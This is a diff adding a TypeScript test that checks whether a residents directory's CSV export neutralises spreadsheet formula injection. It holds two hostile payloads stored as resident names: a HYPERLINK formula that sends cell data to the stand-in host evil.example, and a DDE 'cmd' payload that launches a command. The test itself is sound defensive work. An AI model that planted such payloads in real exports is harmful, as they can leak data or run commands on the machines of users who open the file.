@@ -320,6 +320,37 @@ describe(`directory [${ENGINE}]`, () => {
     });
   });
 
+  describe('export formula injection', () => {
+    it('a resident named like a formula is exported to CSV as text, and a +852 phone round-trips through export and import', async () => {
+      const { estate, unit } = await buildWorld(t);
+      const evil = await t.admin.post(`/estates/${estate.id}/residents`, {
+        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        phone: '+852 9123 4567',
+        kind: 'tenant',
+        unitIds: [unit.id],
+      });
+      expect(evil.status).toBe(201);
+      const cmd = await t.admin.post(`/estates/${estate.id}/residents`, { name: "=cmd|' /C calc'!A0", phone: '-91234567', kind: 'owner' });
+      expect(cmd.status).toBe(201);
+      const res = await t.admin.get(`/estates/${estate.id}/residents/export?format=csv`);
+      const text = String(res.body);
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'+852 9123 4567,,,tenant,A座,1A`);
+      expect(text).toContain(`'=cmd|' /C calc'!A0,'-91234567,`);
+      // No cell starts a formula: every line's cells begin with a quote or ordinary text.
+      for (const line of text
+        .replace(/^\uFEFF/, '')
+        .trim()
+        .split('\n'))
+        expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
+      const back = await t.admin.post(`/estates/${estate.id}/residents/import`, csv(text));
+      expect(back.status).toBe(200);
+      expect(back.body).toMatchObject({ created: 0, updated: 0 });
+      const all = await t.admin.get(`/estates/${estate.id}/residents?pageSize=200`);
+      const phones = all.body.items.filter((r: { name: string }) => r.name.startsWith('=')).map((r: { phone: string }) => r.phone);
+      expect(phones.sort()).toEqual(['+852 9123 4567', '-91234567']);
+    });
+  });
+
   describe('staff and presence', () => {
     it('a manager adds a receptionist to their estate with a department and counter seat', async () => {
       const estate = await buildEstate(t);
